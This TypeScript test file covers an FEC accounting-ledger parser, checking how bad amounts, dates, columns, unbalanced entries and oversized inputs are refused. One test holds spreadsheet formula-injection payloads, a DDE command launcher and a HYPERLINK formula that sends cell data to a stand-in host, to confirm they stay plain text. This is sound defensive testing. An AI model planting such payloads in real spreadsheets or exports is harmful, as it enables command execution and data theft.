import { expect, test } from 'vitest';
import { EXAMPLE_LEDGER, exampleFec, exampleRows } from './example-ledger.ts';
import { readFec } from './fec-reading.ts';
import { MAX_PROBLEMS_PER_CODE } from './limits.ts';

/** The example with one cell changed: row 1 is the header, as in the file. */
function changed(row: number, field: string, text: string): string {
  const rows = exampleRows(EXAMPLE_LEDGER);
  const column = rows[0]?.indexOf(field) ?? -1;
  const cells = rows[row - 1];
  if (cells === undefined || column < 0) throw new Error(`no cell ${row} ${field}`);
  cells[column] = text;
  return rows.map((one) => one.join('\t')).join('\n');
}

const codes = (text: string): [string, number][] => readFec(text).summary.problems.map((found) => [found.code.replace('intake.', ''), found.line]);

test.each<[string, string, string, string]>([
  ['amount in scientific notation', 'Debit', '1e5', 'fecAmountUnreadable'],
  ['hexadecimal amount', 'Debit', '0x1F', 'fecAmountUnreadable'],
  ['NaN', 'Debit', 'NaN', 'fecAmountUnreadable'],
  ['Infinity', 'Debit', 'Infinity', 'fecAmountUnreadable'],
  ['Arabic digits', 'Debit', '٣٤٫٥', 'fecAmountUnreadable'],
  ['twenty digits', 'Debit', '99999999999999999999.99', 'fecAmountOutOfRange'],
  ['three decimals', 'Debit', '1234.567', 'fecAmountDecimals'],
  ['point for thousands or decimals', 'Debit', '1.234', 'fecAmountAmbiguous'],
  ['31 February', 'EcritureDate', '20250231', 'fecDayUnreadable'],
  ['slashed 31 February', 'EcritureDate', '31/02/2026', 'fecDayUnreadable'],
  ['year 9999', 'EcritureDate', '9999-12-31', 'fecDayUnreadable'],
  ['zero date', 'EcritureDate', '0000-00-00', 'fecDayUnreadable'],
  ['piece date out of the calendar', 'PieceDate', '20260230', 'fecDayUnreadable'],
])('%s refuses the file and names the line', (...[, field, text, code]) => {
  const { summary } = readFec(changed(2, field, text));
  expect(summary.accepted).toBe(false);
  expect(summary.problems[0]).toMatchObject({ code: `intake.${code}`, line: 2, severity: 'error' });
  expect(summary.problems[0]?.message.fr).toContain('Ligne 2');
  expect(summary.problems[0]?.message.en).toContain(text);
});

test.each(['EcritureLet', 'CompAuxNum', 'PieceDate', 'Debit', 'CompteNum'])('17 columns without %s: the error names the column', (column) => {
  const rows = exampleRows(EXAMPLE_LEDGER);
  const at = rows[0]?.indexOf(column) ?? -1;
  const { summary, lines } = readFec(rows.map((row) => row.toSpliced(at, 1).join('\t')).join('\n'));
  expect(summary.accepted).toBe(false);
  expect(lines).toEqual([]);
  expect(summary.problems).toMatchObject([{ code: 'intake.fecColumnMissing', line: 1 }]);
  expect(summary.problems[0]?.message.fr).toContain(`« ${column} »`);
});

test('17 columns without one that is not needed is read, with a warning', () => {
  const rows = exampleRows(EXAMPLE_LEDGER).map((row) => row.toSpliced(17, 1).join('\t'));
  expect(readFec(rows.join('\n')).summary).toMatchObject({ accepted: true, lines: 15, problems: [{ code: 'intake.fecColumnAbsent', severity: 'warning' }] });
});

test('19 fields on a line of 18 columns: a separator inside a label', () => {
  expect(codes(changed(4, 'EcritureLib', 'Facture\tFA1'))).toContainEqual(['fecFieldCount', 4]);
  expect(codes(changed(4, 'EcritureLet', 'AA\tB'))).toContainEqual(['fecFieldCount', 4]);
  expect(readFec(changed(4, 'EcritureLet', 'AA\tB')).summary.accepted).toBe(false);
  expect(codes(changed(4, 'Idevise', '\tEUR'))).toContainEqual(['fecFieldCount', 4]);
});

test('a line cut short', () => {
  const rows = exampleFec({ lineEnd: '\n' }).split('\n');
  rows[3] = rows[3]?.slice(0, 30) ?? '';
  expect(codes(rows.join('\n'))[0]).toEqual(['fecFieldCount', 4]);
});

test('the same column twice', () => {
  expect(codes(exampleFec({ extra: ['Journal'] }))).toEqual([['fecColumnTwice', 1]]);
});

test.each([['100,00', '100,00'], ['-100,00', '-100,00'], ['100,00', '-100,00']])('debit %s and credit %s on one line', (debit, credit) => {
  const rows = exampleRows(EXAMPLE_LEDGER);
  rows[3]?.splice(11, 2, debit, credit);
  const { summary } = readFec(rows.map((row) => row.join('\t')).join('\n'));
  expect(summary.accepted).toBe(false);
  expect(summary.problems[0]).toMatchObject({ code: 'intake.fecBothSides', line: 4 });
  expect(summary.problems[0]?.message.fr).toContain(`débit ${debit} et crédit ${credit}`);
});

test('one cent between debit and credit refuses the whole file and shows the control totals', () => {
  const { summary } = readFec(changed(16, 'Credit', '999,99'));
  expect(summary).toMatchObject({ accepted: false, unbalancedEntries: 1, totalDebit: 1_592_099n, totalCredit: 1_592_098n });
  expect(summary.problems.map((found) => found.code)).toEqual(['intake.fecEntryUnbalanced', 'intake.fecTotalsDiffer']);
  expect(summary.problems[1]?.message.fr).toContain('Total débit 15920,99, total crédit 15920,98 : écart de 0,01');
  expect(summary.problems[1]?.message.en).toContain('Total debit 15920.99, total credit 15920.98: they differ by 0.01');
});

test('an unbalanced entry in a balanced file is a warning', () => {
  const text = exampleFec({}, EXAMPLE_LEDGER.map((line, index) => (index === 1 || index === 0 ? { ...line, entry: `${90 + index}` } : line)));
  expect(readFec(text).summary).toMatchObject({ accepted: true, unbalancedEntries: 2 });
});

test('one entry number on two days is reported', () => {
  expect(codes(changed(5, 'EcritureDate', '20250116'))).toEqual([['fecEntryTwoDays', 5]]);
});

test('slashed dates with no day above 12 prove no order: refused, wherever they stand', () => {
  const ambiguous = exampleFec({ day: () => '02/03/2025' });
  expect(codes(ambiguous)).toEqual([['fecDayOrderUnproven', 0]]);
  expect(codes(ambiguous.replace(/02\/03\/2025(?=[^\r]*\r\n$)/u, '28/03/2025'))).not.toContainEqual(['fecDayOrderUnproven', 0]);
  expect(codes(exampleFec({ day: () => '03/25/2025' }))[0]).toEqual(['fecDayUnreadable', 2]);
});

test.each<[string, string, string, number]>([
  ['empty file', '', 'fileEmpty', 0],
  ['blank file', '\r\n\n', 'fileEmpty', 0],
  ['header only', exampleFec({}, []), 'fecNoLines', 0],
  ['no header', exampleFec().split('\r\n').slice(1).join('\r\n'), 'fecHeaderMissing', 1],
  ['another table', 'Client;Montant\nA;1\n', 'fecHeaderMissing', 1],
  ['one endless line', 'x'.repeat(1_000_000), 'lineTooLong', 1],
  ['an endless line after the header', `${exampleFec()}${'x'.repeat(1_000_000)}`, 'lineTooLong', 17],
  ['a million columns', `${exampleFec()}${'\t'.repeat(60_000)}x\n`, 'tooManyColumns', 17],
  ['header of a thousand columns', exampleFec({ extra: Array.from({ length: 1000 }, (_, index) => `X${index}`) }), 'tooManyColumns', 1],
  ['a quote never closed', exampleFec({ separator: ';', quoted: true }).replace(/"([^"]*)"\r\n$/u, '"$1\r\n'), 'quoteUnclosed', 16],
])('%s is refused', (...[, text, code, line]) => {
  for (const chunk of [65_536, 1000]) {
    const { summary } = readFec(text, {}, chunk);
    expect(summary.accepted).toBe(false);
    expect(summary.problems).toContainEqual(expect.objectContaining({ code: `intake.${code}`, line, severity: 'error' }));
  }
});

test('a line mixed with another separator is counted as one field too few', () => {
  const rows = exampleFec({ lineEnd: '\n' }).split('\n');
  rows[2] = rows[2]?.replaceAll('\t', ';') ?? '';
  expect(codes(rows.join('\n'))[0]).toEqual(['fecFieldCount', 3]);
});

test('the file name gives SIREN and closing day; another SIREN refuses the file', () => {
  const { summary } = readFec(exampleFec(), { fileName: '732829320FEC20251231.txt', siren: '732829320' });
  expect(summary).toMatchObject({ accepted: true, fileName: { siren: '732829320', closingOn: '2025-12-31', part: null } });
  const other = readFec(exampleFec(), { fileName: '732829320FEC20251231.txt', siren: '552100554' });
  expect(other.summary).toMatchObject({ accepted: false, problems: [{ code: 'intake.fecOtherSiren' }] });
  const early = readFec(exampleFec(), { fileName: '732829320FEC20250630.txt' });
  expect(early.summary).toMatchObject({ accepted: true, problems: [{ code: 'intake.fecDayAfterClosing', severity: 'warning', line: 15 }] });
});

test('a line without auxiliary account or name is kept and reported', () => {
  const base = EXAMPLE_LEDGER[0];
  if (base === undefined) throw new Error('the example has lines');
  const nobody = EXAMPLE_LEDGER.map((line) => (line.auxiliary === 'C0001' ? { ...line, auxiliary: '', auxiliaryName: '' } : line));
  const { lines, summary } = readFec(exampleFec({}, nobody));
  expect(summary).toMatchObject({ accepted: true, problems: [{ code: 'intake.fecCustomerMissing', line: 2 }, { code: 'intake.fecCustomerMissing', line: 16 }] });
  expect(lines[0]).toMatchObject({ customerCode: '', customerCodeFrom: 'none' });
  const named = EXAMPLE_LEDGER.map((line) => (line.auxiliary === 'C0001' ? { ...line, auxiliary: '' } : line));
  expect(readFec(exampleFec({}, named)).lines[0]).toMatchObject({ customerCode: 'Cabinet Œillet & Fils', customerCodeFrom: 'name' });
});

test('lettering on one side only is passed on as written', () => {
  const text = changed(11, 'EcritureLet', '');
  expect(readFec(text).lines.map((line) => line.lettrage)).toEqual(['', 'AA', '', '', '', 'a']);
});

test('formula-like text stays text', () => {
  const formulas = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1)', '＝1', '=HYPERLINK("http://x/?d="&A1)'];
  for (const formula of formulas) expect(readFec(changed(2, 'EcritureLib', formula)).lines[0]?.label).toBe(formula);
});

test('many problems are counted, not listed', () => {
  const text = exampleFec({}, Array.from({ length: 500 }, () => EXAMPLE_LEDGER).flat()).replaceAll('2400,00', '1e5');
  const { summary } = readFec(text);
  expect(summary.accepted).toBe(false);
  expect(summary.problems.filter((found) => found.code === 'intake.fecAmountUnreadable').length).toBe(MAX_PROBLEMS_PER_CODE);
  expect(summary.problems.at(-1)).toMatchObject({ code: 'intake.moreErrors', severity: 'error' });
  expect(summary.problems.at(-1)?.message.en).toContain('980');
});
